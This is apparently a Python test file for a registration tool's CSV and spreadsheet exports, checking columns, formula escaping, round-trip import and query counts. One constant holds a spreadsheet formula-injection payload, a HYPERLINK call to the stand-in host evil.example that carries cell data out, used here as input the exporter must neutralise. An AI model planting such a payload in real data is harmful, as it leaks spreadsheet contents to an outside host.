"""What goes out goes into a spreadsheet, where no name is calculated, and comes in again."""

import csv
import io

from openpyxl import load_workbook

from ptgsched.db import db
from ptgsched.registrations import exports
from ptgsched.registrations.columns import columns_of
from ptgsched.registrations.details import details
from ptgsched.registrations.imports import Taken, import_rows, read_rows
from ptgsched.registrations.operations import register
from ptgsched.registrations.tables import read_table
from tests.support.queries import counted_queries
from tests.support.story import ORGANIZER, SIGN_UP, Story

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


def enrol(scene: Story, number: int = 3) -> None:
    for n in range(number):
        said = {
            "name": f"Person {n}",
            "affiliation": EVIL if n == 0 else "@home",
            "country": "JP",
            "timezone": "Asia/Tokyo",
            "teams": [scene.team("nova"), scene.team("cinder")],
            "role": "-operator",
        }
        register(scene.event, f"p{n}@example.org", details(said), at=SIGN_UP, letters=None)
    db.session.commit()


def test_csv_has_the_columns_of_the_contract_and_no_formula(scene: Story):
    scene.set(registration_capacity=2)
    enrol(scene)
    rows = list(
        csv.DictReader(io.StringIO(exports.as_csv(exports.registrations(scene.event)).decode()))
    )
    assert list(rows[0]) == [
        "name",
        "email",
        "affiliation",
        "country",
        "timezone",
        "projects",
        "teams",
        "role",
        "status",
        "registered_at",
    ]
    assert rows[0] == {
        "name": "Person 0",
        "email": "p0@example.org",
        "affiliation": f"'{EVIL}",
        "country": "JP",
        "timezone": "Asia/Tokyo",
        "projects": "",
        "teams": "cinder;nova",
        "role": "'-operator",
        "status": "confirmed",
        "registered_at": "2026-10-01T12:00:00Z",
    }
    assert [row["status"] for row in rows] == ["confirmed", "confirmed", "waitlisted"]


def test_a_spreadsheet_holds_text_only(sqlite_story: Story):
    with sqlite_story.app.app_context():
        enrol(sqlite_story)
        content = exports.as_xlsx(exports.registrations(sqlite_story.event), title="October PTG")
    sheet = load_workbook(io.BytesIO(content)).active
    assert [cell.value for cell in sheet[1]] == list(exports.COLUMNS)
    assert sheet.max_row == 4
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
    assert sheet["C2"].value == f"'{EVIL}"


def test_what_went_out_comes_in_unchanged(scene: Story):
    enrol(scene)
    table = read_table(exports.as_csv(exports.registrations(scene.event)))
    rows = read_rows(table, columns_of(table.headings), scene.event, at=SIGN_UP)
    report = import_rows(scene.event, rows, actor=ORGANIZER, at=SIGN_UP)
    assert [row.taken for row in report.rows] == [Taken.UNCHANGED] * 3
    assert report.remarkable == []


def test_pages_of_it_cost_the_same_at_any_size(scene: Story):
    enrol(scene, 12)
    event = scene.event
    with counted_queries() as few:
        page = exports.registrations(event, offset=2, limit=3)
    with counted_queries() as many:
        whole = exports.registrations(event)
    assert page == whole[2:5]
    assert (len(few), len(many), exports.total(event)) == (3, 3, 12)
